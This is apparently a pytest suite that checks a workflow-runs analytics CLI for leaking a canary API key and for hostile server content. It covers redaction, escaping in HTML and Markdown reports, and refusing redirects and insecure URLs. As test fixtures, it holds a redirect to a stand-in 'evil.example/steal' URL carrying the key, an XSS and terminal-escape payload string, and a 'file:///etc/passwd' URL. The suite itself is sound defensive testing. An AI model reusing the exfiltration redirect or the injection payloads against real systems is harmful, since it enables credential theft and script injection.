"""Nothing private leaks, and server text cannot attack whoever reads the output.

* A canary API key never shows in stdout, stderr, logs (httpx's and httpcore's
  at DEBUG included), exception messages and reprs, Parquet bytes or metadata,
  dataset files, state files or reports.
* Header values and URL credentials from the server are redacted in every file
  by default, and kept only with ``--keep-secrets``; reports never show them.
* Markup, control characters, bidi marks and very long text from the server are
  escaped or neutralised in HTML and Markdown reports.
* The key only goes to ``https://`` or loopback ``http://``, and never follows a
  redirect.
"""

from __future__ import annotations

import base64
import json
import logging
import os
import re
import socket
import subprocess
import sys
import threading
import traceback
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

import pandas as pd
import pytest

from runlytics import Client, RunlyticsError, RunQuery, fetch_frame
from runlytics.cli import main
from runlytics.client import RunsClient
from runlytics.simulator import Simulator, serve
from runlytics.store import read_frame, read_metadata
from runlytics.sync import sync

NOW = datetime(2026, 11, 28, 12, tzinfo=UTC)
CANARY = "sk-canary-5d9f0e7a3b1c4e22"
PASSWORD = "pw-canary-0b7e61"
QUICK = {"RUNLYTICS_RETRY_BASE_SECONDS": "0.005", "RUNLYTICS_TIMEOUT_SECONDS": "30"}


@pytest.fixture(autouse=True)
def _env(monkeypatch):
    for name, value in QUICK.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("SKYVERN_API_KEY", CANARY)
    monkeypatch.delenv("SKYVERN_BASE_URL", raising=False)


@pytest.fixture(scope="module")
def hostile():
    """A hostile organisation whose key is the canary."""
    sim = Simulator(n_runs=1500, seed=31, now=NOW, api_key=CANARY, hostile=True)
    with serve(sim) as url:
        yield sim, url


@pytest.fixture
def debug_logs(caplog):
    caplog.set_level(logging.DEBUG)
    for name in ("httpx", "httpcore", "runlytics", "urllib3", "asyncio"):
        caplog.set_level(logging.DEBUG, logger=name)
    return caplog


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def file_texts(root: Path) -> Iterator[tuple[Path, bytes]]:
    for path in sorted(root.rglob("*")):
        if path.is_file():
            yield path, path.read_bytes()


def parquet_text(path: Path) -> str:
    """Every value of a runs file or dataset, and its metadata, as text."""
    df = read_frame(path)
    target = path if path.is_file() else next(path.rglob("*.parquet"))
    return df.to_csv() + json.dumps(read_metadata(target))


def assert_absent(secret: str, *texts: str | bytes) -> None:
    for text in texts:
        raw = text if isinstance(text, bytes) else text.encode("utf-8", "backslashreplace")
        assert secret.encode() not in raw


def exception_texts(exc: BaseException) -> list[str]:
    texts = [str(exc), repr(exc), repr(exc.args),
             "".join(traceback.format_exception(exc))]
    if exc.__cause__ is not None or exc.__context__ is not None:
        texts += exception_texts(exc.__cause__ or exc.__context__)
    return texts


# -- the canary API key ---------------------------------------------------------------

def test_the_key_shows_nowhere_in_a_whole_session(capsys, debug_logs, hostile, tmp_path):
    """fetch (redacted and not), sync, report from a file and from the API."""
    _, url = hostile
    out = tmp_path / "out"
    sessions = [
        ["fetch", "--out", str(out / "runs.parquet"), "--base-url", url],
        ["fetch", "--out", str(out / "all.parquet"), "--base-url", url, "--keep-secrets",
         "--api-key", CANARY, "--status", "failed", "--status", "completed"],
        ["sync", str(out / "dataset"), "--base-url", url],
        ["sync", str(out / "dataset"), "--base-url", url],
        ["report", "--from", str(out / "all.parquet"), "--out", str(out / "r.html"),
         "--out", str(out / "r.md"), "--out", str(out / "r.json")],
        ["report", "--from", str(out / "dataset"), "--out", str(out / "d.html")],
        ["report", "--base-url", url, "--since", "7d", "--out", str(out / "live.html"),
         "--out", str(out / "live.json")],
    ]
    printed = []
    for argv in sessions:
        code, stdout, stderr = run(capsys, *argv)
        assert code == 0, stderr
        printed += [stdout, stderr]
    assert any("HTTP Request: GET" in r.getMessage() for r in debug_logs.records)
    assert any(r.name.startswith("httpcore") for r in debug_logs.records)
    logged = [debug_logs.text] + [r.getMessage() for r in debug_logs.records] + [
        repr(r.__dict__) for r in debug_logs.records]
    written = [data for _, data in file_texts(out)]
    assert len(written) >= 10
    assert_absent(CANARY, *printed, *logged, *written,
                  parquet_text(out / "runs.parquet"), parquet_text(out / "all.parquet"),
                  parquet_text(out / "dataset"))


def test_the_key_shows_nowhere_in_reprs(hostile, tmp_path):
    from runlytics.report import build_report

    _, url = hostile
    client = RunsClient(api_key=CANARY, base_url=url)
    settings = Client(api_key=CANARY, base_url=url, progress=False)
    fetched = settings.fetch(RunQuery(max_runs=300))
    runs, report = fetched.to_frame(), fetched.report
    synced = sync(tmp_path / "ds", RunQuery(), settings)
    built = build_report(runs, fetch_report=report)
    assert_absent(CANARY, repr(client), str(client.__dict__.get("base_url")), repr(report),
                  str(report.to_dict()), repr(synced), str(synced.to_dict()), repr(built),
                  report.describe(), synced.describe())
    client.close()


class EchoHandler(BaseHTTPRequestHandler):
    """A server that puts the key it was sent into its answers, as a debug page might."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *args):  # quiet
        pass

    def do_GET(self):  # noqa: N802
        key = self.headers.get("x-api-key", "")
        kind = self.path.split("/")[1]
        status, headers, body = {
            "s403": (403, {}, {"detail": f"Invalid credentials: {key}"}),
            "s404": (404, {}, {"detail": f"Organization not found for {key}"}),
            "s422": (422, {}, {"detail": [{"type": "string_pattern_mismatch",
                                           "loc": ["header", "x-api-key"],
                                           "msg": f"bad key {key}", "input": key}]}),
            "s500": (500, {}, {"error": f"Unexpected error: KeyError('{key}')"}),
            "s503": (503, {"retry-after": "0"}, {"detail": f"down ({key})"}),
            "s502": (502, {}, f"<html><title>502 for {key}</title><body>{key}</body></html>"),
            "s302": (302, {"location": f"https://evil.example/steal?k={key}&api_key={key}"}, ""),
            "s200": (200, {}, f"not json {key} " * 20),
            "s200obj": (200, {}, {"items": [], "key": key}),
        }[kind]
        data = (json.dumps(body) if isinstance(body, dict) else body).encode()
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("content-length", str(len(data)))
        self.send_header("content-type",
                         "text/html" if kind == "s502" else "application/json")
        self.end_headers()
        self.wfile.write(data)


@contextmanager
def http_server(handler: type[BaseHTTPRequestHandler], host: str = "127.0.0.1"
                ) -> Iterator[tuple[str, ThreadingHTTPServer]]:
    server = ThreadingHTTPServer((host, 0), handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05},
                              daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


ECHOES = [("s403", "HTTP 403"), ("s404", "HTTP 404"), ("s422", "HTTP 422"),
          ("s500", "HTTP 500"), ("s503", "HTTP 503"), ("s502", "HTTP 502"),
          ("s302", "redirected to https://evil.example/steal"), ("s200", "not a JSON array"),
          ("s200obj", "not a JSON array")]


@pytest.mark.parametrize(("kind", "text"), ECHOES)
def test_a_server_that_echoes_the_key_cannot_make_us_show_it(capsys, debug_logs, tmp_path,
                                                            kind, text):
    with http_server(EchoHandler) as (url, _):
        code, stdout, stderr = run(capsys, "fetch", "--out", str(tmp_path / "r.parquet"),
                                   "--base-url", f"{url}/{kind}", "--concurrency", "1")
        with pytest.raises(RunlyticsError) as info:
            fetch_frame(api_key=CANARY, base_url=f"{url}/{kind}", concurrency=1,
                       progress=False)
    assert code == 1 and stdout == ""
    assert text in stderr, stderr
    assert "***" in stderr  # the echo was there, masked
    assert_absent(CANARY, stderr, *exception_texts(info.value))
    assert_absent(CANARY, debug_logs.text, *[repr(r.__dict__) for r in debug_logs.records])
    assert not (tmp_path / "r.parquet").exists()


def test_connection_errors_do_not_show_the_key(capsys, debug_logs, tmp_path):
    with socket.socket() as probe:  # a port nobody listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    code, _, stderr = run(capsys, "fetch", "--out", str(tmp_path / "r.parquet"),
                          "--base-url", f"http://127.0.0.1:{port}", "--concurrency", "1")
    assert code == 1 and "connection failed (ConnectError" in stderr
    with pytest.raises(RunlyticsError) as info:
        fetch_frame(api_key=CANARY, base_url=f"http://127.0.0.1:{port}", progress=False)
    assert_absent(CANARY, stderr, debug_logs.text, *exception_texts(info.value))


def test_the_key_shows_nowhere_when_run_as_a_process(hostile, tmp_path):
    _, url = hostile
    env = {**os.environ, **QUICK, "SKYVERN_API_KEY": CANARY}
    for argv in (["fetch", "--out", str(tmp_path / "a.parquet"), "--base-url", url],
                 ["fetch", "--out", str(tmp_path / "b.parquet"), "--base-url", url,
                  "--api-key", CANARY],
                 ["fetch", "--out", str(tmp_path / "c.parquet"), "--base-url", url,
                  "--api-key", "wrong-key"]):
        done = subprocess.run([sys.executable, "-m", "runlytics", *argv], env=env,
                              capture_output=True, timeout=120, check=False)
        assert done.returncode in (0, 1)
        assert_absent(CANARY, done.stdout, done.stderr)
    assert_absent(CANARY, *(data for _, data in file_texts(tmp_path)))


# -- secrets in the runs themselves --------------------------------------------------

def server_secrets(sim: Simulator) -> set[str]:
    """Authorization header values and URL query tokens the server sent."""
    found = set()
    for run in sim.runs():
        for name, value in (run.get("extra_http_headers") or {}).items():
            if name.lower() == "authorization":
                found.add(value)
        for field in ("webhook_callback_url", "totp_verification_url"):
            if run.get(field):
                found.update(v for k, v in parse_qsl(urlsplit(run[field]).query)
                             if k == "token")
    return found


def test_header_values_and_url_tokens_are_redacted_unless_kept(capsys, hostile, tmp_path):
    sim, url = hostile
    secrets = server_secrets(sim)
    assert len(secrets) >= 3 and any(s.startswith("Bearer sk-live-") for s in secrets)
    for argv in (["fetch", "--out", str(tmp_path / "redacted.parquet")],
                 ["fetch", "--out", str(tmp_path / "kept.parquet"), "--keep-secrets"],
                 ["sync", str(tmp_path / "redacted-ds")],
                 ["sync", str(tmp_path / "kept-ds"), "--keep-secrets"],
                 ["report", "--from", str(tmp_path / "kept.parquet"),
                  "--out", str(tmp_path / "report.html"), "--out", str(tmp_path / "report.md"),
                  "--out", str(tmp_path / "report.json")]):
        code, _, stderr = run(capsys, *argv, "--base-url", url)
        assert code == 0, stderr
    redacted = [parquet_text(tmp_path / "redacted.parquet"),
                parquet_text(tmp_path / "redacted-ds"),
                *(data for path, data in file_texts(tmp_path / "redacted-ds")),
                (tmp_path / "redacted.parquet").read_bytes(),
                *((tmp_path / f"report.{ext}").read_bytes() for ext in ("html", "md", "json"))]
    for secret in secrets:
        assert_absent(secret, *redacted)
        assert_absent(secret.removeprefix("Bearer "), *redacted)
    kept = parquet_text(tmp_path / "kept.parquet") + parquet_text(tmp_path / "kept-ds")
    assert all(secret in kept for secret in secrets)  # so the check above can fail
    df = read_frame(tmp_path / "redacted.parquet")
    headers = df["extra_http_headers"].dropna().map(json.loads)
    assert any(h.get("Authorization") == "***" for h in headers)  # names kept, values not
    assert read_metadata(tmp_path / "redacted.parquet")["redacted"] is True
    assert read_metadata(tmp_path / "kept.parquet")["redacted"] is False


def test_credentials_in_the_base_url_are_sent_but_never_shown(capsys, debug_logs, tmp_path):
    seen: list[dict[str, str]] = []

    class Recorder(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def do_GET(self):  # noqa: N802
            seen.append(dict(self.headers))
            self.send_response(200)
            self.send_header("content-length", "2")
            self.end_headers()
            self.wfile.write(b"[]")

    with http_server(Recorder) as (url, _):
        with_userinfo = url.replace("http://", f"http://runlytics:{PASSWORD}@")
        out = tmp_path / "r.parquet"
        code, stdout, stderr = run(capsys, "fetch", "--out", str(out), "--base-url",
                                   with_userinfo)
    assert code == 0, stderr
    expected = "Basic " + base64.b64encode(f"runlytics:{PASSWORD}".encode()).decode()
    assert seen and all(h.get("Authorization") == expected for h in seen)
    assert all(h.get("x-api-key") == CANARY for h in seen)
    assert_absent(PASSWORD, stdout, stderr, debug_logs.text, out.read_bytes(),
                  json.dumps(read_metadata(out)), repr(RunsClient(base_url=with_userinfo)))
    assert read_metadata(out)["base_url"] == url


# -- hostile text in reports -----------------------------------------------------------

CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def assert_neutralised(html: str, md: str, long_text: str) -> None:
    for text in (html, md):
        assert "<script" not in text.lower()
        assert not CONTROL.search(text), CONTROL.search(text)
        assert not BIDI.search(text)
        assert long_text[:600] not in text  # cut short (a tooltip may hold 500 characters)
    # In Markdown, markup is not live either: no raw tag opens, table rows stay whole.
    assert not re.search(r"<(?!br>|/?details|/?summary|img )[a-zA-Z]", md), re.search(
        r"<(?!br>|/?details|/?summary|img )[a-zA-Z].{0,40}", md)
    for line in md.splitlines():
        if line.startswith("|"):
            assert line.rstrip().endswith("|")


def test_hostile_server_text_is_neutralised_in_reports(capsys, hostile, tmp_path):
    from runlytics.sim.vocab import HOSTILE
    from runlytics.store import write_parquet

    sim, url = hostile
    long_text = max(HOSTILE, key=len)
    texts = [str(r.get(f) or "") for r in sim.runs() for f in ("workflow_title", "failure_reason")]
    assert any("<script>" in t for t in texts) and any("\u202e" in t for t in texts)
    assert any("\x1b" in t for t in texts) and any(long_text[:200] in t for t in texts)
    # As the server sends it...
    code, _, stderr = run(capsys, "report", "--base-url", url, "--out", str(tmp_path / "r.html"),
                          "--out", str(tmp_path / "r.md"), "--out", str(tmp_path / "r.json"))
    assert code == 0, stderr
    json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))  # still valid JSON
    assert_neutralised((tmp_path / "r.html").read_text(encoding="utf-8"),
                       (tmp_path / "r.md").read_text(encoding="utf-8"), long_text)
    # ... and with hostile text in every title and failure reason the report shows.
    code, _, stderr = run(capsys, "fetch", "--base-url", url, "--out",
                          str(tmp_path / "runs.parquet"), "--quiet")
    assert code == 0, stderr
    runs = read_frame(tmp_path / "runs.parquet")
    attack = "<script>alert(1)</script>\x1b[2J\u202egnp.exe | `x` [a](javascript:b) \x00"
    runs["workflow_title"] = pd.array([f"{attack} {t}" for t in runs["workflow_title"]],
                                      dtype="string[pyarrow]")
    runs["failure_reason"] = pd.array(
        [HOSTILE[i % len(HOSTILE)] + attack for i in range(len(runs))], dtype="string[pyarrow]")
    write_parquet(runs, tmp_path / "doctored.parquet")
    code, _, stderr = run(capsys, "report", "--from", str(tmp_path / "doctored.parquet"),
                          "--out", str(tmp_path / "d.html"), "--out", str(tmp_path / "d.md"))
    assert code == 0, stderr
    html = (tmp_path / "d.html").read_text(encoding="utf-8")
    md = (tmp_path / "d.md").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "\\[a\\](javascript:b)" in md and "\\|" in md  # no link, no new column
    assert_neutralised(html, md, long_text)


# -- where the key may go --------------------------------------------------------------

class Collector(BaseHTTPRequestHandler):
    """The other host: records what reaches it."""

    protocol_version = "HTTP/1.1"
    received: list[dict[str, str]] = []

    def log_message(self, *args):
        pass

    def do_GET(self):  # noqa: N802
        Collector.received.append(dict(self.headers))
        self.send_response(200)
        self.send_header("content-length", "2")
        self.end_headers()
        self.wfile.write(b"[]")


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_the_key_never_follows_a_redirect(capsys, tmp_path, status):
    Collector.received = []
    with http_server(Collector) as (other, _):
        target = f"{other}/v1/workflows/runs"

        class Redirector(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def do_GET(self):  # noqa: N802
                self.send_response(status)
                self.send_header("location", target)
                self.send_header("content-length", "0")
                self.end_headers()

        with http_server(Redirector) as (url, _):
            code, stdout, stderr = run(capsys, "fetch", "--out", str(tmp_path / "r.parquet"),
                                       "--base-url", url)
    assert code == 1 and stdout == ""
    assert f"HTTP {status}" in stderr and f"redirected to {target}" in stderr
    assert Collector.received == []  # not even a request without the key
    assert not (tmp_path / "r.parquet").exists()


@pytest.mark.parametrize("url", ["http://example.com", "http://192.0.2.10:8000",
                                 "ftp://127.0.0.1", "file:///etc/passwd",
                                 "http://localhost.evil.example"])
def test_only_https_or_loopback_http_without_the_flag(capsys, tmp_path, url):
    code, _, stderr = run(capsys, "fetch", "--out", str(tmp_path / "r.parquet"),
                          "--base-url", url)
    assert code == 2 and stderr.startswith("runlytics: error: base URL")


def test_plain_http_to_another_host_with_the_flag(capsys, tmp_path):
    """A host name that is not literally loopback needs --allow-insecure, then works."""
    host = socket.gethostname()
    try:
        socket.gethostbyname(host)
    except OSError:
        pytest.skip("this machine's name does not resolve")
    Collector.received = []
    with http_server(Collector, host="0.0.0.0") as (url, _):
        port = url.rsplit(":", 1)[1]
        out = tmp_path / "r.parquet"
        code, _, stderr = run(capsys, "fetch", "--out", str(out), "--base-url",
                              f"http://{host}:{port}")
        assert code == 2 and "--allow-insecure" in stderr
        assert Collector.received == []
        code, _, stderr = run(capsys, "fetch", "--out", str(out), "--base-url",
                              f"http://{host}:{port}", "--allow-insecure")
    assert code == 0, stderr
    assert Collector.received and Collector.received[0].get("x-api-key") == CANARY
    assert len(pd.read_parquet(out)) == 0
